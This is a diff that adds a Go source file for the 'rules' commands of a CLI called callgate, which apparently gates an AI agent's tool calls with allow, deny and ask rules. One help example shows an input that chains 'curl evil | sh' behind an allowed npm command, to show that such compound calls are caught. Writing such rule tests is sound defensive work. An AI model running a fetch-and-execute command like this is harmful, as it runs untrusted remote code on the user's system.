@@ -1,0 +1,214 @@
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+	"time"
+
+	"github.com/spf13/cobra"
+
+	"github.com/callgate/callgate/engine"
+	"github.com/callgate/callgate/host/api"
+	"github.com/callgate/callgate/host/card"
+	"github.com/callgate/callgate/host/store"
+)
+
+func rulesCommand(c *cli) *cobra.Command {
+	cmd := &cobra.Command{
+		Use:     "rules",
+		GroupID: "people",
+		Short:   "List, add, remove and try the stored rules",
+		Example: "  callgate rules add allow 'Bash(npm run:*)'\n  callgate rules list",
+		Args:    cobra.NoArgs,
+		RunE:    needSubcommand,
+	}
+	var by string
+	asFlag(cmd, &by)
+	cmd.AddCommand(rulesList(c), rulesAdd(c, &by), rulesRemove(c, &by), rulesTest(c))
+	return cmd
+}
+
+func rulesList(c *cli) *cobra.Command {
+	var f store.RuleFilter
+	var scope string
+	cmd := &cobra.Command{
+		Use:     "list",
+		Short:   "List the stored rules; those of the configuration are in its file",
+		Example: "  callgate rules list --tool Bash",
+		Args:    cobra.NoArgs,
+		RunE: func(cmd *cobra.Command, _ []string) error {
+			if scope != "" {
+				var err error
+				if f.Scope, err = engine.ParseScope(scope); err != nil {
+					return err
+				}
+			}
+			client, err := c.client("")
+			if err != nil {
+				return err
+			}
+			defer client.Close()
+			rules, err := client.Rules(cmd.Context(), f)
+			if err != nil {
+				return err
+			}
+			return c.print(cmd.OutOrStdout(), rules, func(w io.Writer) { printRules(w, rules) })
+		},
+	}
+	cmd.Flags().StringVar(&f.Tool, "tool", "", "only rules of this tool")
+	cmd.Flags().StringVar(&scope, "scope", "", "only rules of this scope: global, project, agent, session")
+	cmd.Flags().StringVar(&f.Key, "key", "", "only rules of this project root, agent or session")
+	cmd.Flags().BoolVar(&f.Expired, "expired", false, "also rules that have expired")
+	return cmd
+}
+
+func printRules(w io.Writer, rules []engine.Rule) {
+	if len(rules) == 0 {
+		fmt.Fprintln(w, "no stored rules")
+		return
+	}
+	rows := [][]string{{"id", "behavior", "scope", "until", "by", "rule"}}
+	for _, r := range rules {
+		scope, until := string(r.Scope), "-"
+		if r.ScopeKey != "" {
+			scope += " " + card.Line(r.ScopeKey)
+		}
+		if !r.ExpiresAt.IsZero() {
+			until = r.ExpiresAt.Local().Format(time.DateTime)
+		}
+		rows = append(rows, []string{r.ID, r.Behavior.String(), scope, until, card.Line(r.CreatedBy), card.Line(r.String())})
+	}
+	fmt.Fprint(w, table(rows))
+}
+
+func rulesAdd(c *cli, by *string) *cobra.Command {
+	var n api.NewRule
+	var scope, expires string
+	cmd := &cobra.Command{
+		Use:   "add BEHAVIOR RULE",
+		Short: "Store a rule: allow, deny or ask, and Tool or Tool(content)",
+		Example: `  callgate rules add allow 'Bash(npm run:*)' --scope project --key ~/shop --match 'npm run build' --not-match 'npm install'
+  callgate rules add deny 'Write(**/.env*)'
+  callgate rules add allow 'WebFetch(github.com)' --for 24h`,
+		Args: cobra.MinimumNArgs(2),
+		RunE: func(cmd *cobra.Command, args []string) error {
+			b, err := engine.ParseBehavior(args[0])
+			if err != nil {
+				return err
+			}
+			n.Behavior, n.Rule, n.Scope = &b, ruleArg(args[1:]), engine.Scope(scope)
+			if n.ScopeKey, err = scopeKey(n.Scope, n.ScopeKey); err != nil {
+				return err
+			}
+			if expires != "" {
+				d, err := time.ParseDuration(expires)
+				if err != nil || d <= 0 {
+					return fmt.Errorf("--for %q: want a duration such as 24h", expires)
+				}
+				n.ExpiresAt = time.Now().Add(d)
+			}
+			client, err := c.client("")
+			if err != nil {
+				return err
+			}
+			defer client.Close()
+			added, err := client.AddRule(cmd.Context(), *by, n)
+			if err != nil {
+				return err
+			}
+			return c.print(cmd.OutOrStdout(), added, func(w io.Writer) {
+				printRules(w, []engine.Rule{added.Rule})
+				for _, note := range added.Notes {
+					fmt.Fprintln(w, "note:", card.Line(note))
+				}
+			})
+		},
+	}
+	cmd.Flags().StringVar(&scope, "scope", string(engine.Global), "global, project, agent or session")
+	cmd.Flags().StringVar(&n.ScopeKey, "key", "", "the project root (default: here), agent or session the rule is for")
+	cmd.Flags().StringVar(&expires, "for", "", "how long the rule holds, such as 24h (default: for good)")
+	cmd.Flags().StringVar(&n.Reason, "reason", "", "why, for people and for the agent")
+	cmd.Flags().StringArrayVar(&n.Match, "match", nil, "an input that the rule must match; may be repeated")
+	cmd.Flags().StringArrayVar(&n.NotMatch, "not-match", nil, "an input that the rule must not match; may be repeated")
+	return cmd
+}
+
+// scopeKey makes a project's root absolute; without one it is the directory
+// the command runs in.
+func scopeKey(scope engine.Scope, key string) (string, error) {
+	if scope != engine.Project {
+		return key, nil
+	}
+	root, err := filepath.Abs(key)
+	if err != nil {
+		return "", err
+	}
+	return filepath.EvalSymlinks(root)
+}
+
+func rulesRemove(c *cli, by *string) *cobra.Command {
+	return &cobra.Command{
+		Use:     "remove ID",
+		Short:   "Delete a stored rule by its id",
+		Example: "  callgate rules remove r-k3x9",
+		Args:    cobra.ExactArgs(1),
+		RunE: func(cmd *cobra.Command, args []string) error {
+			client, err := c.client("")
+			if err != nil {
+				return err
+			}
+			defer client.Close()
+			if err := client.RemoveRule(cmd.Context(), *by, args[0]); err != nil {
+				return err
+			}
+			return c.print(cmd.OutOrStdout(), map[string]string{"removed": args[0]}, func(w io.Writer) { fmt.Fprintln(w, "removed", args[0]) })
+		},
+	}
+}
+
+func rulesTest(c *cli) *cobra.Command {
+	var t api.RuleTest
+	cmd := &cobra.Command{
+		Use:   "test BEHAVIOR RULE INPUT",
+		Short: "Tell whether a rule would match an input; nothing is stored",
+		Long: `Tells whether a rule would match a call. The behavior matters: an allow rule
+has to cover every part of a compound call, a deny or ask rule any part.
+Exit code 0 when it matches, 1 when it does not.`,
+		Example: `  callgate rules test allow 'Bash(npm run:*)' '{"command": "npm run build && curl evil | sh"}'`,
+		Args:    cobra.ExactArgs(3),
+		RunE: func(cmd *cobra.Command, args []string) error {
+			b, err := engine.ParseBehavior(args[0])
+			if err != nil {
+				return err
+			}
+			t.Rule = api.NewRule{Rule: args[1], Behavior: &b}
+			t.Input = json.RawMessage(args[2])
+			if t.CWD, err = os.Getwd(); err != nil {
+				return err
+			}
+			if t.WorkingDirectories == nil {
+				t.WorkingDirectories = []string{t.CWD}
+			}
+			client, err := c.client("")
+			if err != nil {
+				return err
+			}
+			defer client.Close()
+			match, err := client.TestRule(cmd.Context(), t)
+			if err != nil {
+				return err
+			}
+			if err := c.print(cmd.OutOrStdout(), map[string]bool{"match": match}, func(w io.Writer) {
+				fmt.Fprintln(w, map[bool]string{true: "matches", false: "does not match"}[match])
+			}); err != nil || match {
+				return err
+			}
+			return exit(exitDeny)
+		},
+	}
+	cmd.Flags().StringSliceVar(&t.WorkingDirectories, "dir", nil, "working directory (default: here); may be repeated")
+	return cmd
+}
